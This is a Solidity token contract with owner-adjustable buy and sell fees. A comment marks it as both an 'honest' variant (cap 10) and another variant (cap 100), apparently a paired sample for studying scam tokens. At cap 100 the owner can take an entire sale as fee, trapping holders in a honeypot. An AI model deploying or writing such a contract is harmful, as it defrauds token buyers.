// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Buy and sell fees the owner can change. The most they can be is set at deployment: 10 for the honest one, 100 for the other.
contract ChangeableFee {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    uint256 public immutable maximum;
    address public owner;
    address public marketing;
    uint256 public buyFee = 2;
    uint256 public sellFee = 4;
    mapping(address => bool) public isPair;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);
    event FeesChanged(uint256 buy, uint256 sell);
    modifier onlyOwner() { require(msg.sender == owner, "Ownable: caller is not the owner"); _; }

    constructor(string memory title, string memory ticker, uint256 most) {
        (name, symbol, maximum) = (title, ticker, most);
        owner = msg.sender;
        marketing = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        emit OwnershipTransferred(address(0), msg.sender);
    }
    function setPair(address pair, bool on) external onlyOwner { isPair[pair] = on; }
    function setFees(uint256 buy, uint256 sell) external onlyOwner { require(buy <= maximum && sell <= maximum, "fee too high"); (buyFee, sellFee) = (buy, sell); emit FeesChanged(buy, sell); }
    function transferOwnership(address to) external onlyOwner { require(to != address(0)); emit OwnershipTransferred(owner, to); owner = to; }
    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }

    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        uint256 fee;
        if (from != marketing && to != marketing) {
            if (isPair[from]) fee = value * buyFee / 100;
            else if (isPair[to]) fee = value * sellFee / 100;
        }
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) { balanceOf[marketing] += fee; emit Transfer(from, marketing, fee); }
    }
}
